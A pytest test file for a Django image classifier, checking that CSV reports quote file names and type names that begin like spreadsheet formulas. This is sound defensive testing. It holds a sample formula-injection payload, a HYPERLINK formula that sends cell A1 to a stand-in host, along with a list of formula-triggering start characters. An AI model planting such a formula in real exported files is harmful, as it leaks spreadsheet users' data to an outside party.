"""Every CSV the product writes keeps user-given text inert: a file name or a type's name that starts
like a spreadsheet formula comes out as text, never as a formula."""
import csv
import io
import json
import shutil

import pytest
from django.core.management import call_command
from django.test import override_settings

from classifier.predictor import Predictor
from classifier.results import inert
from classifier.training.evaluate import evaluate_classifier

HOSTILE = '=HYPERLINK("http://x/?"&A1,"p")'
HOSTILE_FILE = HOSTILE.replace("/", "")  # a file name holds no slash


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_formula_like_start_is_made_text(start):
    assert inert(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["lva_passport", "Passport of Latvia", "0.973100", "[[1.0, 2.0]]", "", "a=b"])
def test_other_cells_are_left_as_they_are(value):
    assert inert(value) == value


@pytest.fixture
def hostile_model(trained_model_dir, tmp_path):
    """The session's model with every type named like a formula, and without an open set, so every
    answer names a type (and so shows a name)."""
    folder = shutil.copytree(trained_model_dir, tmp_path / "model")
    metadata = json.loads((folder / "metadata.json").read_text())
    metadata["display_names"] = {c: f"{HOSTILE} {c}" for c in metadata["classes"]}
    del metadata["open_set"]
    (folder / "metadata.json").write_text(json.dumps(metadata))
    return folder


def rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_classify_images_writes_a_hostile_file_name_and_type_name_inert(hostile_model, backbone_weights,
                                                                        demo_image, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / f"{HOSTILE_FILE}.jpg").write_bytes(demo_image[1])
    with override_settings(IDCLASS_BACKBONE_WEIGHTS=backbone_weights):
        call_command("classify_images", f"{HOSTILE_FILE}.jpg", "--model", str(hostile_model), "--csv", "out.csv",
                     verbosity=0)
    [row] = rows((tmp_path / "out.csv").read_text())
    assert row["path"] == f"'{HOSTILE_FILE}.jpg"
    assert row["label"] == f"'{HOSTILE} {row['document_type']}"


def test_predictions_csv_writes_a_hostile_type_name_inert(hostile_model, backbone_weights, demo_train_dir,
                                                          tmp_path):
    predictor = Predictor(hostile_model, weights=backbone_weights)
    known = sorted(p for p in demo_train_dir.iterdir() if p.is_dir())[0]
    (tmp_path / "data" / known.name).mkdir(parents=True)
    shutil.copy(sorted(known.glob("*.jpg"))[0], tmp_path / "data" / known.name / "photo.jpg")
    evaluate_classifier(predictor, [tmp_path / "data"], tmp_path / "report")
    [row] = rows((tmp_path / "report" / "predictions.csv").read_text())
    assert row["true_type"] == known.name and row["label"] == f"'{HOSTILE} {row['document_type']}"
